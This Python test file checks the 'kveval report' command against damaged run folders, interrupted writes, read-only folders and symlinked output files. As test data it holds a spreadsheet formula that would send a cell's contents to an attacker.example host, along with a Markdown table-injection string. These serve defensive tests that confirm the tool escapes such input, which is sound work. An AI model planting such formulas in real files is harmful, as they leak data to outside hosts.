"""`kveval report` and the files under a run folder: folders that are not runs or are damaged (metrics, config,
env, records a folder or not text), hostile policy and run names (Markdown table injection, spreadsheet formulas),
an interrupted report, a read-only run folder, symbolic links among the report's files, a report that fails at
the end of a run; and the crash-safe primitives underneath (kveval.fileio).

No model: the folders are written by hand (tests/synthetic_runs.py), except one tiny run at the end.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
import yaml
from synthetic_runs import write_synthetic_run
from typer.testing import CliRunner

from kveval.cli import app
from kveval.commands.report import report_command
from kveval.errors import KvevalError
from kveval.fileio import append_line, atomic_write_json, end_with_newline, read_jsonl, scan_jsonl
from kveval.report.document import md_cell
from kveval.report.tables import csv_safe_cell
from kveval.results import LOCK_FILE
from kveval.results.lock import FolderLock

EVIL_MD = "evil|name\n| injected | row |"
EVIL_CSV = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def one_line_exit_2(result, *needles) -> str:
    assert result.exit_code == 2, result.output
    lines = [line for line in result.stderr.strip().splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:"), result.stderr
    assert "Traceback" not in result.output
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@contextlib.contextmanager
def read_only(folder: Path):
    """``folder`` where no file can be created (mode 0555, or the immutable attribute for root); else skip."""
    if os.geteuid() != 0:
        folder.chmod(0o555)
        try:
            yield
        finally:
            folder.chmod(0o755)
        return
    if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(folder)]).returncode != 0:
        pytest.skip("cannot make a folder read-only for root here")
    try:
        yield
    finally:
        subprocess.run(["chattr", "-i", str(folder)], check=True)


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    run = write_synthetic_run(tmp_path_factory.mktemp("t") / "run", policies=("int8", "int4_g64"))
    report_command([run])
    return run


@pytest.fixture
def run(template, tmp_path) -> Path:
    shutil.copytree(template, tmp_path / "run")
    return tmp_path / "run"


def report(*args: str):
    return CliRunner().invoke(app, ["report", *args])


# --------------------------------------------------------------------------- folders that are not runs, or damaged


def test_report_of_a_folder_that_is_not_a_run(tmp_path):
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "cat.jpg").write_bytes(b"\xff\xd8")
    one_line_exit_2(report(str(tmp_path / "photos")), "metrics.json", "results folder")
    assert os.listdir(tmp_path / "photos") == ["cat.jpg"]


def test_report_of_a_file(tmp_path):
    (tmp_path / "notes.txt").write_text("x")
    one_line_exit_2(report(str(tmp_path / "notes.txt")), "not a folder")


def test_report_of_an_unfinished_run(run):
    (run / "metrics.json").unlink()
    one_line_exit_2(report(str(run)), "unfinished", "rerun")


def test_report_when_metrics_is_a_folder(run):
    (run / "metrics.json").unlink()
    (run / "metrics.json").mkdir()
    one_line_exit_2(report(str(run)), "metrics.json", "not a file")


def test_report_when_metrics_is_not_text(run):
    (run / "metrics.json").write_bytes(b"\x80\x81\xfe\xff" * 10)
    one_line_exit_2(report(str(run)), "metrics.json")


def test_report_when_metrics_is_truncated(run):
    text = (run / "metrics.json").read_text()
    (run / "metrics.json").write_text(text[: len(text) // 3])
    one_line_exit_2(report(str(run)), "metrics.json", "not valid JSON")


def test_report_when_config_is_a_folder(run):
    (run / "config.resolved.yaml").unlink()
    (run / "config.resolved.yaml").mkdir()
    one_line_exit_2(report(str(run)), "config.resolved.yaml")


def test_report_when_config_is_not_yaml(run):
    (run / "config.resolved.yaml").write_text("kv: {policies: [unclosed\n")
    one_line_exit_2(report(str(run)), "config.resolved.yaml", "not valid YAML")


def test_report_when_env_is_a_folder(run):
    (run / "env.json").unlink()
    (run / "env.json").mkdir()
    one_line_exit_2(report(str(run)), "env.json")


def test_report_when_records_is_a_folder(run):
    (run / "records.jsonl").unlink()
    (run / "records.jsonl").mkdir()
    one_line_exit_2(report(str(run)), "records.jsonl")


def test_report_when_a_policy_entry_is_not_a_mapping(run):
    metrics = json.loads((run / "metrics.json").read_text())
    metrics["policies"]["int8"] = [1, 2, 3]
    (run / "metrics.json").write_text(json.dumps(metrics))
    one_line_exit_2(report(str(run)), "metrics.json", "'int8' is not a mapping")


def test_report_when_fields_have_the_wrong_types(run):
    metrics = json.loads((run / "metrics.json").read_text())
    metrics["policies"]["int8"]["kld_ci95"] = 0.5  # a number where a [lo, hi] pair belongs
    metrics["policies"]["int4_g64"]["layer_errors"] = "many"
    (run / "metrics.json").write_text(json.dumps(metrics))
    one_line_exit_2(report(str(run)), "metrics.json", "shape")


def test_report_reads_records_with_damage_and_duplicates(run):
    lines = (run / "records.jsonl").read_text().splitlines()
    (run / "records.jsonl").write_text("\n".join([lines[0], "garbage", *lines, lines[1], "[1]"]) + "\n")
    result = report(str(run))
    assert result.exit_code == 0, result.output
    from kveval.results import load

    assert len(load(run).records) == len(lines), "each key once, damage skipped"


# --------------------------------------------------------------------------- hostile names


def _rename_policies(run: Path, names: dict[str, str], run_name: str | None = None) -> None:
    metrics = json.loads((run / "metrics.json").read_text())
    metrics["policies"] = {names.get(k, k): v for k, v in metrics["policies"].items()}
    if run_name is not None:
        metrics["run"] = run_name
    (run / "metrics.json").write_text(json.dumps(metrics))
    config = yaml.safe_load((run / "config.resolved.yaml").read_text())
    config["kv"]["policies"] = {names.get(k, k): v for k, v in config["kv"]["policies"].items()}
    (run / "config.resolved.yaml").write_text(yaml.safe_dump(config))


def test_markdown_table_injection_is_escaped(run):
    _rename_policies(run, {"int8": EVIL_MD}, run_name="run|x\n# not a heading")
    report_command([run])
    md = (run / "report.md").read_text()
    assert not any(line.startswith("| injected") for line in md.splitlines()), "no row of the attacker's"
    assert not any(line.startswith("# not a heading") for line in md.splitlines())
    table = md[md.index("*Policies against the threshold"):].split("\n\n")[1].splitlines()
    assert len(table) == 2 + 3, table  # header, separator, baseline + 2 policies
    row = next(line for line in table if "evil" in line)
    assert "evil\\|name<br>\\| injected \\| row \\|" in row
    html = (run / "report.html").read_text()
    assert "<td>evil|name\n| injected | row |</td>" in html or "evil|name" in html  # escaped HTML, text kept


def test_csv_formula_injection_is_neutralised(run):
    _rename_policies(run, {"int8": EVIL_CSV, "int4_g64": "@SUM(1+1)"})
    report_command([run])
    for path in sorted((run / "tables").glob("*.csv")):
        with open(path, newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(("=", "+", "@", "\t", "\r")):
                        raise AssertionError(f"{path.name}: live formula {cell!r}")
                    if cell.startswith("-"):
                        float(cell)  # a negative number, nothing else
    summary = (run / "tables" / "summary.csv").read_text()
    assert "'=HYPERLINK(" in summary and "'@SUM(1+1)" in summary


def test_csv_cells_keep_numbers_and_plain_text():
    assert csv_safe_cell(-0.25) == -0.25 and csv_safe_cell("int8") == "int8"
    for bad in ("=1+1", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_safe_cell(bad) == "'" + bad


def test_markdown_cell_escapes_pipes_and_line_breaks():
    assert md_cell("a|b") == "a\\|b"
    assert md_cell("a\\|b") == "a\\\\\\|b", "a backslash cannot cancel the escape"
    assert md_cell("a\r\nb\u2028c") == "a<br>b<br>c"


# --------------------------------------------------------------------------- writing the report


def test_interrupted_report_keeps_the_previous_one(run, monkeypatch):
    """Ctrl-C while report.md is being written: the previous report stays whole, no temporary file is left, the
    lock is released, the run's files are untouched; the CLI prints one line (exit 130, its code for Ctrl-C)."""
    before = snapshot(run)
    (run / "metrics.json").write_text((run / "metrics.json").read_text().replace('"run": "run"', '"run": "run2"'))
    before["metrics.json"] = (run / "metrics.json").read_bytes()
    real_fsync = os.fsync

    def interrupted(fd):
        if ".report.md." in os.readlink(f"/proc/self/fd/{fd}"):
            raise KeyboardInterrupt
        return real_fsync(fd)

    if not os.path.exists("/proc/self/fd"):
        pytest.skip("needs /proc")
    monkeypatch.setattr(os, "fsync", interrupted)
    result = report(str(run))
    monkeypatch.setattr(os, "fsync", real_fsync)
    assert result.exit_code == 130, result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "interrupted" in lines[0] and "Traceback" not in result.output
    after = snapshot(run)
    assert after["report.md"] == before["report.md"] and after["metrics.json"] == before["metrics.json"]
    assert after["records.jsonl"] == before["records.jsonl"]
    assert not [n for n in os.listdir(run) if n.startswith(".report")], "no temporary file left"
    assert not (run / LOCK_FILE).exists()


def test_report_into_a_read_only_run_folder_is_refused(run, tmp_path):
    before = snapshot(run)
    with read_only(run):
        one_line_exit_2(report(str(run)), "cannot write in", "-o")
        result = report(str(run), "-o", str(tmp_path / "elsewhere"))
    assert result.exit_code == 0, result.output
    assert snapshot(run) == before


def test_report_never_writes_through_a_symlinked_plots_folder(run, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.png").write_bytes(b"mine")
    shutil.rmtree(run / "plots")
    (run / "plots").symlink_to(victim)
    one_line_exit_2(report(str(run)), "plots", "symbolic link")
    assert os.listdir(victim) == ["keep.png"] and (victim / "keep.png").read_bytes() == b"mine"


def test_report_never_writes_through_a_symlinked_report_file(run, tmp_path):
    victim = tmp_path / "victim.md"
    victim.write_text("precious\n")
    (run / "report.md").unlink()
    (run / "report.md").symlink_to(victim)
    one_line_exit_2(report(str(run)), "report.md", "symbolic link")
    assert victim.read_text() == "precious\n"


def test_report_never_writes_through_a_symlinked_csv(run, tmp_path):
    victim = tmp_path / "victim.csv"
    victim.write_text("precious\n")
    (run / "tables" / "summary.csv").unlink()
    (run / "tables" / "summary.csv").symlink_to(victim)
    one_line_exit_2(report(str(run)), "summary.csv")
    assert victim.read_text() == "precious\n"


def test_report_output_that_is_a_file_is_refused(run, tmp_path):
    (tmp_path / "out.txt").write_text("x")
    one_line_exit_2(report(str(run), "-o", str(tmp_path / "out.txt")), "is a file")
    assert (tmp_path / "out.txt").read_text() == "x"


def test_a_failed_report_at_the_end_of_a_run_keeps_the_run(tmp_path):
    """A report that fails at the end of a run: the run says so in one line and exits 2; its records and
    metrics.json are written (the same as a run whose report succeeds), and the lock is released."""
    from kveval.commands.run import run_experiment
    from kveval.config import validate

    out = tmp_path / "run"
    cfg = {"name": "tiny", "model": "builtin:tiny-llama", "data": "builtin", "kv": ["int8"], "output": str(out),
           "tasks": [{"perplexity": {"seq_len": 32, "max_tokens": 64, "bootstrap": 0, "position_bins": 2}}]}
    metrics = run_experiment(validate(cfg), quiet=True)
    (out / "metrics.json").unlink()
    records = (out / "records.jsonl").read_bytes()
    (tmp_path / "elsewhere").mkdir()
    shutil.rmtree(out / "plots")
    (out / "plots").symlink_to(tmp_path / "elsewhere")  # in the way of the report, not of the run
    with pytest.raises(KvevalError) as info:
        run_experiment(validate(cfg), quiet=True)
    assert str(info.value).startswith(f"the report of {out} was not written:") and "\n" not in str(info.value)
    assert json.loads((out / "metrics.json").read_text()) == json.loads(json.dumps(metrics))
    assert (out / "records.jsonl").read_bytes() == records
    assert os.listdir(tmp_path / "elsewhere") == []
    assert not (out / LOCK_FILE).exists()
    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump(cfg))
    one_line_exit_2(CliRunner().invoke(app, ["run", str(path), "--quiet"]), "was not written", "kveval report")
    assert (out / "records.jsonl").read_bytes() == records


# --------------------------------------------------------------------------- the primitives


def test_interrupted_atomic_write_keeps_the_old_file(tmp_path, monkeypatch):
    target = tmp_path / "metrics.json"
    target.write_text('{"old": true}\n')

    def boom(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", boom)
    with pytest.raises(OSError):
        atomic_write_json(target, {"new": True})
    monkeypatch.undo()
    assert target.read_text() == '{"old": true}\n' and os.listdir(tmp_path) == ["metrics.json"]


def test_atomic_write_replaces_a_symlink_instead_of_following_it(tmp_path):
    victim = tmp_path / "victim.json"
    victim.write_text("precious\n")
    (tmp_path / "metrics.json").symlink_to(victim)
    atomic_write_json(tmp_path / "metrics.json", {"a": 1})
    assert victim.read_text() == "precious\n" and not (tmp_path / "metrics.json").is_symlink()


def test_append_never_follows_a_symlink(tmp_path):
    victim = tmp_path / "victim.jsonl"
    victim.write_text("precious\n")
    (tmp_path / "records.jsonl").symlink_to(victim)
    with pytest.raises(OSError):
        append_line(tmp_path / "records.jsonl", '{"key": "a"}')
    with pytest.raises(OSError):
        end_with_newline(tmp_path / "records.jsonl")
    assert victim.read_text() == "precious\n"


def test_jsonl_reader_skips_damage_and_keeps_reading(tmp_path):
    p = tmp_path / "r.jsonl"
    p.write_bytes(b'{"key": "a"}\n\n{bad\n\xff\xfe\n{"key": "b"}\n{"key": "c", "x": [1, 2')
    got = scan_jsonl(p)
    assert [d["key"] for d in got.objects] == ["a", "b"] and got.bad_lines == [2, 3, 4] and got.torn
    assert read_jsonl(p) == got.objects
    assert end_with_newline(p) and p.read_bytes().endswith(b'{"key": "b"}\n')
    with pytest.raises(OSError):
        scan_jsonl(tmp_path)  # a folder is not a log


def test_lock_in_a_read_only_folder_is_one_line(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    with read_only(folder):
        with pytest.raises(KvevalError, match="cannot write in"):
            FolderLock(folder).acquire()
    assert os.listdir(folder) == []


def test_temporary_files_get_the_ordinary_mode(tmp_path):
    old = os.umask(0o027)
    try:
        atomic_write_json(tmp_path / "m.json", {})
        append_line(tmp_path / "r.jsonl", "{}")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "m.json").stat().st_mode) == 0o640
    assert stat.S_IMODE((tmp_path / "r.jsonl").stat().st_mode) == 0o640
